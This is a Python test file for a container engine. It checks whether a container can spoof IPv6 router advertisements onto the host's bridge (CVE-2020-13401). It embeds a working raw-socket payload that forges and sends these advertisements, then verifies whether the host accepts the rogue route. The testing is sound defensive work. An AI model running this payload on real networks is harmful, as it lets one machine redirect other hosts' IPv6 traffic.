"""What a container can do to the host by way of the bridge that both are on."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from tests.engine.containers.conftest import Bench
from tests.engine.isolation.attacks import attack

pytestmark = pytest.mark.root

ADVERTISE = """
def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
ours, everyone = socket.inet_pton(10, "fe80::bad"), socket.inet_pton(10, "ff02::1")
prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 60, 60, 0) + socket.inet_pton(10, "2001:db8:bad::")
advertisement = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 0, 0, 0) + prefix
pseudo = ours + everyone + struct.pack(">II", len(advertisement), 58)
sum_ = struct.pack(">H", checksum(pseudo + advertisement))
advertisement = advertisement[:2] + sum_ + advertisement[4:]
packet = struct.pack(">IHBB", 6 << 28, len(advertisement), 58, 255) + ours + everyone + advertisement
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
    link.bind(("eth0", 0))
    frame = bytes.fromhex("333300000001") + bytes.fromhex("020000000bad") + struct.pack(">H", 0x86DD) + packet
    for _ in range(3):
        told["sent"] = link.send(frame)
        time.sleep(0.1)
"""


def routes(bridge: str) -> list[str]:
    """IPv6 routes of the host by the bridge that somebody advertised."""
    lines = Path("/proc/net/ipv6_route").read_text().splitlines()
    return [line for line in lines if line.split()[-1] == bridge and line.startswith("20010db80bad")]


@pytest.mark.skipif(not Path("/proc/net/ipv6_route").exists(), reason="this kernel has no IPv6 to be misled")
def test_no_router_of_a_containers_is_believed(bench: Bench) -> None:
    """CVE-2020-13401: with NET_RAW a container advertises itself as the host's way to the IPv6 Internet."""
    bench.start()
    bridge = f"pyctr-{bench.engine.paths.tag}"
    assert attack(bench, ADVERTISE)["sent"] > 0
    assert routes(bridge) == []
    off = Path(f"/proc/sys/net/ipv6/conf/{bridge}/disable_ipv6")
    assert off.read_text().strip() == "1"
    Path(f"/proc/sys/net/ipv6/conf/{bridge}/accept_ra").write_text("2")
    off.write_text("0")
    try:
        time.sleep(2)  # an address of the link is tried first
        attack(bench, ADVERTISE)
        assert routes(bridge), "with IPv6 switched on there, it is believed"
    finally:
        off.write_text("1")
        Path(f"/proc/sys/net/ipv6/conf/{bridge}/accept_ra").write_text("1")
